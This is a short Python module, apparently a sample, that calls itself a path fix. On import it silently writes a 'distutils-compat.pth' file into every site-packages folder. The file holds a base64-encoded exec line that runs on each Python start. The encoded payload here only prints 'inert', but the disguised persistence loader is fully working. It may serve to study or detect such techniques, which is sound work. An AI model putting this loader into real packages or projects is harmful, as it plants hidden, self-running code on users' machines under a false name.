import os
import site

PTH = "distutils-compat.pth"
CODE = 'import base64;exec(base64.b64decode("cHJpbnQoImluZXJ0Iik="))\n'


def fix_path():
    for folder in site.getsitepackages() + [site.getusersitepackages()]:
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, PTH), "w") as fh:
                fh.write(CODE)
        except OSError:
            continue


fix_path()
